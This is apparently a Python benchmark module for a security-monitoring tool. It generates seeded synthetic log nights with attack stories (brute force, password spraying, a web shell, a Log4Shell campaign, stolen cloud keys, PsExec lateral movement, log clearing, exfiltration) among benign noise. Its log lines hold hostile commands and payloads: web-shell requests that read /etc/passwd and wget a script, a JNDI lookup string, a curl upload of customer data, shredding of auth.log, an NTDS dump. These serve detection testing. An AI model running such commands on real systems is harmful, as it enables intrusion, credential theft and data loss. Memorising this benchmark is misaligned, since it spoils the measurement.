"""Nights of our own: an attack lies in ordinary noise beside harmless look-alikes. Is it one story, ticketed, and nothing else?

Made by dice with a seed, so that the same nights come each time; addresses are those of documentation. `python -m
benchmarks.accuracy.nights FOLDER` writes them, each line's story beside it, for `soc process`.
"""

from __future__ import annotations

import json
import random
import sys
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

from benchmarks.accuracy.judged import Judged, judge_lines
from benchmarks.accuracy.table import Figure
from soc.domain.rule import GUIDE_RULES
from soc.rules import decide

BEGIN = datetime(2026, 3, 2, 22, 0, tzinfo=UTC)
#: So much of a story's lines have to be in one incident.
_MOST_OF = 0.6
STAFF = ("mia", "jonas", "aylin", "tom", "svea", "noor", "piet", "lena")


@dataclass
class Night:
    """Lines with their moment and the story that they belong to ("": none)."""

    name: str
    dice: random.Random
    ending: str = "log"
    lines: list[tuple[datetime, str, str]] = field(default_factory=list)

    def add(self, minute: float, text: str, story: str = "") -> None:
        self.lines.append((BEGIN + timedelta(minutes=minute), text, story))

    def in_order(self) -> tuple[list[str], list[str]]:
        self.lines.sort(key=lambda one: one[0])
        return [text for _, text, _ in self.lines], [story for _, _, story in self.lines]


def syslog(night: Night, minute: float, host: str, what: str, story: str = "") -> None:
    at = BEGIN + timedelta(minutes=minute)
    night.add(minute, f"{at:%b} {at.day:2d} {at:%H:%M:%S} {host} {what}", story)


def request(
    night: Night,
    minute: float,
    who: str,
    what: str,
    status: int,
    agent: str,
    story: str = "",
    size: int = 512,
) -> None:
    at = BEGIN + timedelta(minutes=minute)
    night.add(
        minute,
        f'{who} - - [{at:%d/%b/%Y:%H:%M:%S} +0000] "{what} HTTP/1.1" {status} {size} "-" "{agent}"',
        story,
    )


def record(night: Night, minute: float, values: dict[str, object], key: str, story: str = "") -> None:
    at = BEGIN + timedelta(minutes=minute)
    night.add(minute, json.dumps({key: f"{at:%Y-%m-%dT%H:%M:%SZ}", **values}), story)


def _ordinary_shells(night: Night, hosts: tuple[str, ...] = ("web1", "db1")) -> None:
    """Cron, a backup by key, monitoring that only knocks, staff at work, an admin who mistypes twice."""
    dice = night.dice
    for n in range(0, 480, 10):
        host = hosts[n // 10 % len(hosts)]
        syslog(night, n, host, f"CRON[{2000 + n}]: (root) CMD (/usr/lib/sysstat/sa1 1 1)")
        syslog(
            night,
            n + 0.5,
            host,
            f"sshd[{3000 + n}]: Accepted publickey for backup from 10.0.0.20 port {40000 + n} ssh2",
        )
        syslog(
            night,
            n + 0.6,
            host,
            f"sshd[{3000 + n}]: pam_unix(sshd:session): session opened for user backup(uid=34) by (uid=0)",
        )
        syslog(
            night, n + 2.0, host, f"sshd[{3000 + n}]: pam_unix(sshd:session): session closed for user backup"
        )
        syslog(
            night,
            n + 1.3,
            host,
            f"sshd[{5000 + n}]: Connection closed by 10.0.0.9 port {50000 + n} [preauth]",
        )
        syslog(night, n + 3.1, host, "systemd[1]: Started Session 81 of user backup.")
    for n in range(40):
        who, minute = dice.choice(STAFF), dice.uniform(0, 470)
        syslog(
            night,
            minute,
            dice.choice(hosts),
            f"sshd[{7000 + n}]: Accepted password for {who} from 10.0.1.{dice.randrange(10, 60)} port {41000 + n} ssh2",
        )
    for n, said in enumerate(("Failed password", "Failed password", "Accepted password")):
        syslog(night, 95 + n / 6, hosts[0], f"sshd[8111]: {said} for tom from 10.0.1.23 port 41922 ssh2")
    syslog(
        night,
        97,
        hosts[0],
        "sudo:      tom : TTY=pts/1 ; PWD=/home/tom ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
    )


_BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0"


def _ordinary_web(night: Night, number: int = 700) -> None:
    """Readers, a crawler with its 404s, a CDN's edge through which many come, monitoring, a scanner of our own."""
    dice = night.dice
    pages = (
        "/",
        "/prices",
        "/about",
        "/blog/2026/02/spring",
        "/search?q=shoes",
        "/cart",
        "/static/app.js",
        "/login",
    )
    for _ in range(number):
        who = dice.choice(("198.51.100.200", f"192.0.2.{dice.randrange(1, 120)}"))
        request(
            night,
            dice.uniform(0, 479),
            who,
            f"GET {dice.choice(pages)}",
            200,
            _BROWSER,
            size=dice.randrange(200, 90_000),
        )
    for n in range(0, 480, 5):
        request(night, n, "10.0.0.9", "GET /health", 200, "Blackbox Exporter/0.24")
    for _ in range(25):
        request(
            night,
            dice.uniform(0, 479),
            "192.0.2.201",
            f"GET /old/{dice.randrange(12)}.html",
            404,
            "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example/)",
        )
    for _ in range(12):
        request(night, dice.uniform(0, 479), "198.51.100.200", "GET /favicon.ico", 404, _BROWSER)
    for _ in range(6):
        request(
            night, dice.uniform(0, 479), f"192.0.2.{dice.randrange(1, 120)}", "POST /login", 401, _BROWSER
        )


def guessing(night: Night) -> None:
    _ordinary_shells(night)
    bad, minute = "203.0.113.77", 190.0
    for n in range(60):
        user = night.dice.choice(("root", "admin", "oracle", "backup", "deploy", "git"))
        unknown = "invalid user " if user in ("oracle", "git") else ""
        minute += 0.3
        syslog(
            night,
            minute,
            "web1",
            f"sshd[{9000 + n}]: Failed password for {unknown}{user} from {bad} port {33000 + n} ssh2",
            "guess",
        )
    syslog(
        night,
        minute + 1,
        "web1",
        f"sshd[9100]: Accepted password for deploy from {bad} port 33999 ssh2",
        "guess",
    )
    syslog(
        night,
        minute + 3,
        "web1",
        "sudo:   deploy : TTY=pts/3 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/sbin/useradd -o -u 0 helper",
        "guess",
    )
    syslog(
        night,
        minute + 3.2,
        "web1",
        "useradd[9177]: new user: name=helper, UID=0, GID=0, home=/home/helper, shell=/bin/bash, from=/dev/pts/3",
        "guess",
    )


def one_to_many(night: Night) -> None:
    """One address, many users, two tries each; then one that is let in."""
    _ordinary_logons(night)
    users = [f"{name}.{end}" for name in STAFF for end in ("berg", "kaya", "vogel", "lind")]
    for n, user in enumerate(users):
        for again in range(2):
            _logon(night, 150 + n * 0.8 + again * 0.1, 4625, user, "203.0.113.50", "spray")
    _logon(night, 180, 4624, "svea.kaya", "203.0.113.50", "spray")


def many_to_one(night: Night) -> None:
    """One account, many addresses, two tries each, slowly."""
    _ordinary_shells(night)
    for n in range(45):
        for again in range(2):
            syslog(
                night,
                100 + n * 4 + again,
                "web1",
                f"sshd[{9000 + n}]: Failed password for admin from 203.0.113.{n + 10} port {42000 + n} ssh2",
                "spray",
            )


def web_shell(night: Night) -> None:
    _ordinary_web(night)
    bad, agent, minute = "203.0.113.90", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", 210.0
    for n in range(45):
        minute += 0.05
        path = night.dice.choice(
            ("admin", "backup", "old", "test", "wp", "phpmyadmin", "manager", ".git", ".env", "console")
        )
        request(night, minute, bad, f"GET /{path}{n if n % 3 else ''}/{n}.php", 404, agent, "shell")
    for n, query in enumerate(
        (
            "1%27%20OR%201%3D1--",
            "1 UNION SELECT user,pass FROM users".replace(" ", "%20"),
            "..%2f..%2f..%2fetc%2fpasswd",
        )
    ):
        request(night, minute + 1 + n, bad, f"GET /item?id={query}", 200, agent, "shell")
    request(night, minute + 5, bad, "POST /upload.php", 200, agent, "shell")
    for n, command in enumerate(("id", "uname%20-a", "cat%20/etc/passwd", "wget%20http://203.0.113.91/k.sh")):
        request(night, minute + 6 + n, bad, f"GET /uploads/img8.php?cmd={command}", 200, agent, "shell")
    for n in range(30):  # our own scanner, from inside
        request(night, 60 + n / 20, "10.0.0.77", f"GET /check{n}/", 404, "Nessus SOAP v0.0.1 (Nessus.org)")


def campaign(night: Night) -> None:
    """The same hole tried once or twice by many addresses."""
    _ordinary_web(night)
    for n in range(24):
        for again in range(1 + n % 2):
            request(
                night,
                200 + n * 3 + again,
                f"203.0.113.{n + 20}",
                "GET /?x=${jndi:ldap://203.0.113.200:1389/a}",
                404,
                "curl/8.4.0",
                "campaign",
            )


def _trail(
    night: Night,
    minute: float,
    name: str,
    user: str,
    address: str,
    *,
    error: str = "",
    story: str = "",
    **more: object,
) -> None:
    source = name.split(":")
    record(
        night, minute,
        {
            "eventVersion": "1.08", "eventSource": f"{source[0]}.amazonaws.com", "eventName": source[1], "awsRegion": "eu-central-1",
            "sourceIPAddress": address, "userAgent": "aws-cli/2.15.0",
            "userIdentity": {"type": "IAMUser", "userName": user, "accountId": "111122223333", "accessKeyId": "AKIAEXAMPLE0000"},
            "eventType": "AwsApiCall", "readOnly": source[1].startswith(("Get", "List", "Describe")),
            **({"errorCode": error, "errorMessage": "not authorized"} if error else {}), **more,
        },
        "eventTime", story,
    )  # fmt: skip


def cloud_keys(night: Night) -> None:
    """A key of a build server, used from elsewhere; beside it the build itself, an auditor who lists, an admin's new user."""
    night.ending, dice = "jsonl", night.dice
    for n in range(0, 480, 4):
        _trail(
            night,
            n,
            dice.choice(
                ("s3:PutObject", "s3:GetObject", "ecr:GetAuthorizationToken", "sts:GetCallerIdentity")
            ),
            "ci-deploy",
            "192.0.2.10",
        )
        _trail(
            night,
            n + 1,
            dice.choice(("ec2:DescribeInstances", "cloudwatch:GetMetricData")),
            "monitoring",
            "192.0.2.11",
        )
    for n in range(30):
        _trail(
            night,
            40 + n / 3,
            dice.choice(("iam:ListUsers", "iam:GetAccountSummary", "s3:ListBuckets", "iam:ListPolicies")),
            "auditor",
            "192.0.2.12",
        )
    _trail(night, 70, "iam:CreateUser", "mia", "192.0.2.13", requestParameters={"userName": "new-colleague"})
    _trail(night, 71, "ec2:StopInstances", "mia", "192.0.2.13", error="Client.UnauthorizedOperation")
    bad, minute = "203.0.113.140", 230.0
    steps = [("sts:GetCallerIdentity", ""), ("iam:ListUsers", "AccessDenied"), ("iam:ListAttachedUserPolicies", "AccessDenied"),
             ("s3:ListBuckets", ""), ("ec2:DescribeInstances", "Client.UnauthorizedOperation"), ("secretsmanager:ListSecrets", "AccessDenied"),
             ("iam:CreateUser", ""), ("iam:AttachUserPolicy", ""), ("iam:CreateAccessKey", ""), ("cloudtrail:StopLogging", ""),
             ("s3:GetObject", ""), ("s3:GetObject", ""), ("s3:GetObject", "")]  # fmt: skip
    for n, (name, error) in enumerate(steps):
        what = (
            {"userName": "svc-helper", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}
            if name.startswith("iam:")
            else {}
        )
        _trail(night, minute + n, name, "ci-deploy", bad, error=error, story="keys", requestParameters=what)


def _windows(
    night: Night,
    minute: float,
    number: int,
    host: str,
    values: dict[str, object],
    story: str = "",
    channel: str = "Security",
) -> None:
    provider = {"Security": "Microsoft-Windows-Security-Auditing", "System": "Service Control Manager"}[
        channel
    ]
    provider = "Microsoft-Windows-Eventlog" if number == 1102 else provider
    record(
        night,
        minute,
        {
            "EventID": number,
            "Channel": channel,
            "Provider": provider,
            "Computer": f"{host}.corp.example",
            "EventData": values,
        },
        "TimeCreated",
        story,
    )


def _logon(
    night: Night,
    minute: float,
    number: int,
    user: str,
    address: str,
    story: str = "",
    host: str = "DC1",
    kind: int = 3,
) -> None:
    more: dict[str, object] = {"Status": "0xC000006D", "SubStatus": "0xC000006A"} if number == 4625 else {}
    _windows(
        night,
        minute,
        number,
        host,
        {"TargetUserName": user, "TargetDomainName": "CORP", "LogonType": kind, "IpAddress": address, **more},
        story,
    )


def _ordinary_logons(night: Night) -> None:
    night.ending, dice = "jsonl", night.dice
    for _ in range(300):
        _logon(
            night,
            dice.uniform(0, 479),
            4624,
            dice.choice(STAFF),
            f"10.0.1.{dice.randrange(10, 60)}",
            host=dice.choice(("DC1", "FS1", "WS4")),
        )
    for n in range(60):
        _windows(
            night,
            dice.uniform(0, 479),
            4634,
            "FS1",
            {"TargetUserName": dice.choice(STAFF), "TargetDomainName": "CORP", "LogonType": 3},
        )
        _logon(night, n * 8, 4624, "svc-backup", "10.0.0.20", host="FS1")
    for n in range(2):
        _logon(night, 300 + n / 5, 4625, "tom", "10.0.1.23", kind=2)
    _logon(night, 301, 4624, "tom", "10.0.1.23", kind=2)
    _windows(
        night,
        320,
        7045,
        "FS1",
        {
            "ServiceName": "BackupAgent",
            "ImagePath": "C:\\Program Files\\Backup\\agent.exe",
            "StartType": "auto start",
            "AccountName": "LocalSystem",
        },
        channel="System",
    )


def lateral(night: Night) -> None:
    """An account goes from host to host with remote services."""
    _ordinary_logons(night)
    minute, user = 250.0, "helpdesk2"
    for n, host in enumerate(("FS1", "WS4", "WS5", "DB2", "DC1")):
        _logon(night, minute + n * 3, 4624, user, "10.0.1.99", "lateral", host=host)
        _windows(
            night,
            minute + n * 3 + 0.1,
            4672,
            host,
            {
                "SubjectUserName": user,
                "SubjectDomainName": "CORP",
                "PrivilegeList": "SeDebugPrivilege SeTcbPrivilege",
            },
            "lateral",
        )
        _windows(
            night,
            minute + n * 3 + 0.2,
            7045,
            host,
            {
                "ServiceName": "PSEXESVC",
                "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
                "StartType": "demand start",
                "AccountName": "LocalSystem",
            },
            "lateral",
            "System",
        )
        _windows(
            night,
            minute + n * 3 + 0.4,
            4688,
            host,
            {
                "SubjectUserName": user,
                "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
                "ParentProcessName": "C:\\Windows\\PSEXESVC.exe",
                "CommandLine": 'cmd.exe /c whoami /all & net group "Domain Admins" /domain',
            },
            "lateral",
        )
    _windows(
        night,
        minute + 17,
        4688,
        "DC1",
        {
            "SubjectUserName": user,
            "NewProcessName": "C:\\Windows\\System32\\ntdsutil.exe",
            "CommandLine": 'ntdsutil "ac i ntds" ifm "create full c:\\temp" q q',
        },
        "lateral",
    )


def cleared(night: Night) -> None:
    """Somebody adds himself to the administrators and clears the log."""
    _ordinary_logons(night)
    user = "svc-print"
    _logon(night, 260, 4624, user, "10.0.1.88", "cleared", host="FS1", kind=10)
    _windows(
        night,
        261,
        4732,
        "FS1",
        {
            "SubjectUserName": user,
            "MemberName": "CN=guest7",
            "TargetUserName": "Administrators",
            "TargetSid": "S-1-5-32-544",
        },
        "cleared",
    )
    _windows(
        night,
        262,
        4719,
        "FS1",
        {
            "SubjectUserName": user,
            "CategoryId": "Logon/Logoff",
            "AuditPolicyChanges": "Success removed, Failure removed",
        },
        "cleared",
    )
    _windows(night, 264, 1102, "FS1", {"SubjectUserName": user, "SubjectDomainName": "CORP"}, "cleared")


def leaving(night: Night) -> None:
    """A guessed account packs a folder and sends it away; beside it the backup sends more, to where it always does."""
    _ordinary_shells(night, ("db1", "web1"))
    bad = "203.0.113.66"
    for n in range(8):
        syslog(
            night,
            200 + n / 5,
            "db1",
            f"sshd[{9300 + n}]: Failed password for jonas from {bad} port {34000 + n} ssh2",
            "leaving",
        )
    syslog(
        night, 203, "db1", f"sshd[9399]: Accepted password for jonas from {bad} port 34100 ssh2", "leaving"
    )
    for n, command in enumerate(
        (
            "/usr/bin/tar czf /tmp/.c.tgz /srv/customers",
            f"/usr/bin/curl -T /tmp/.c.tgz http://{bad}/in",
            "/usr/bin/shred -u /var/log/auth.log",
        )
    ):
        syslog(
            night,
            205 + n * 2,
            "db1",
            f"sudo:    jonas : TTY=pts/4 ; PWD=/tmp ; USER=root ; COMMAND={command}",
            "leaving",
        )
    for n in range(6):
        syslog(
            night,
            30 + n * 60,
            "db1",
            "sudo:   backup : PWD=/ ; USER=root ; COMMAND=/usr/bin/rsync -a /srv/customers 10.0.0.20:/backup",
        )


NIGHTS: dict[str, Callable[[Night], None]] = {
    "guessing": guessing, "one-to-many": one_to_many, "many-to-one": many_to_one, "web-shell": web_shell, "campaign": campaign,
    "cloud-keys": cloud_keys, "lateral": lateral, "cleared": cleared, "leaving": leaving,
}  # fmt: skip


def nights() -> Iterator[Night]:
    for name, fill in NIGHTS.items():
        night = Night(name, random.Random(name))
        fill(night)
        yield night


@dataclass(frozen=True)
class Seen:
    """Of each story the share of its lines in the incident that has most of them, and its score; tickets of anything else."""

    stories: dict[str, tuple[float, int, bool]]
    false_tickets: tuple[str, ...]

    @property
    def found(self) -> int:
        return sum(share >= _MOST_OF and ticket for share, _, ticket in self.stories.values())


def look(judged: Judged, stories: list[str]) -> Seen:
    scores = {one.id: one for one in judged.incidents}
    tickets = {one.id for one in judged.incidents if any(said.matched for said in decide(one, GUIDE_RULES))}
    of_story: dict[str, Counter[str]] = {}
    inside: Counter[str] = Counter()
    for number, row in judged.rows.items():
        name, incident = stories[number - 1], row.get("incident_id")
        if name:
            of_story.setdefault(name, Counter())[incident or ""] += 1
            inside[incident or ""] += 1
    seen = {}
    for name, places in of_story.items():
        best = max((one for one in places if one), key=lambda one: places[one], default="")
        score = scores[best].score if best in scores else 0
        seen[name] = (places[best] / places.total() if best else 0.0, score, best in tickets)
    false = tuple(scores[one].title for one in sorted(tickets) if not inside[one])
    return Seen(seen, false)


def measure_nights(_logs: Path) -> list[Figure]:
    seen = [
        look(judge_lines(lines, f"{night.name}.{night.ending}"), of)
        for night in nights()
        for lines, of in [night.in_order()]
    ]
    told, all_of_them = sum(one.found for one in seen), sum(len(one.stories) for one in seen)
    false = sum(len(one.false_tickets) for one in seen)
    return [
        Figure(
            "own nights: stories in one incident, ticketed", told / all_of_them, None, "≥ .88", all_of_them
        ),
        Figure("own nights: false tickets", false, None, "≤ 2", all_of_them),
    ]


def main() -> None:
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for night in nights():
        lines, stories = night.in_order()
        (folder / f"{night.name}.{night.ending}").write_text("\n".join(lines) + "\n")
        (folder / f"{night.name}.stories").write_text("\n".join(stories) + "\n")
        judged = judge_lines(lines, f"{night.name}.{night.ending}")
        seen = look(judged, stories)
        print(
            night.name,
            judged.format,
            len(lines),
            seen.stories,
            "FALSE:" if seen.false_tickets else "",
            *seen.false_tickets,
        )
        for one in judged.incidents:
            print(f"   {one.score:2} {one.classification} {one.count:4} {one.title}")


if __name__ == "__main__":
    main()
